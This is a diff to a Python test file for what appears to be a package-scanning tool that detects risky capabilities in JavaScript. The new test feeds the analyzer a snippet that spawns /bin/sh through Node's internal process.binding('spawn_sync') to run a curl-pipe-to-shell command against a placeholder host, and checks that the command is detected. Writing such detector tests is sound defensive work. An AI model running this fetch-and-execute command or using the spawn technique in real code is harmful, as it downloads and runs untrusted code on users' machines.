@@ -499,3 +499,15 @@ def test_named_import_of_exec_running_a_plain_command_is_allowed() -> None:
     assert "path.join" in result.capabilities.builtin  # a leaf is still reported where imported
     assert "shell-fetch-and-run" not in {f.rule for f in result.findings}
     assert decide(result.findings) is Verdict.ALLOW
+
+
+def test_a_spawn_through_process_binding_is_a_command() -> None:
+    from airlock.analysis.capabilities import analyze_source
+    from airlock.analysis.js import Dialect
+
+    code = (
+        "const b = process.binding('spawn_sync');\n"
+        "b.spawn({ file: '/bin/sh', args: ['/bin/sh', '-c', 'curl -s https://x.invalid/p | sh'] });\n"
+    )
+    caps = analyze_source("index.js", code.encode(), Dialect.JAVASCRIPT)
+    assert [command for _, command in caps.commands] == ["curl -s https://x.invalid/p | sh"]
